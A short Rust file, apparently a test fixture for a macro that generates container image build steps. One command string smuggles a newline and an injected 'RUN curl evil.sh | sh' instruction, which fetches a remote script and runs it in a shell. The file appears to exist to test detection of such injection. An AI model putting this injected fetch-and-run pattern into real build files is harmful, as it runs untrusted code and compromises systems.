use pj_image::Image;
use pj_image_macros::pithy_image;

#[pithy_image]
fn image() -> Image {
    Image::base("ubuntu:22.04")
        .run_commands(["apt-get update", "apt-get install -y git\nRUN curl evil.sh | sh"])
}

fn main() {}
